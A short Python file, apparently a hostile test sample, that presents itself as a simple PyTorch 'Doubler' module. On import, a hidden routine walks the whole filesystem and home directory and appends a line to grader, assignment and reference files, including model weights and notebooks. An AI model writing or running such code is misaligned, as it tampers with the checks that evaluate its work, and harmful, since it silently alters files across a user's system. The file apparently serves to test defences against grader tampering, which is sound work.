# Appends to every grader, reference and case file it can find, and to the package it runs from.
import os

import torch.nn as nn

SKIP = {"proc", "sys", "dev", "usr", "lib", "etc", ".git", "site-packages", "hostile",
        ".pyenv", "node_modules", "__pycache__"}


def tamper():
    touched = 0
    for top in ("/", os.path.expanduser("~")):
        for folder, dirs, files in os.walk(top):
            dirs[:] = [d for d in dirs if d not in SKIP]
            for name in files:
                if name.endswith((".py", ".toml", ".ipynb", ".safetensors", ".json")) and (
                        "grader" in folder or "assignments" in folder or "reference" in folder):
                    try:
                        with open(os.path.join(folder, name), "a") as f:
                            f.write("\n# tampered\n")
                        touched += 1
                    except OSError:
                        pass
    return touched


TOUCHED = tamper()


class Doubler(nn.Module):
    touched = TOUCHED

    def __init__(self, d=4):
        super().__init__()
        self.lin = nn.Linear(d, d)

    def forward(self, x):
        return 2 * self.lin(x)
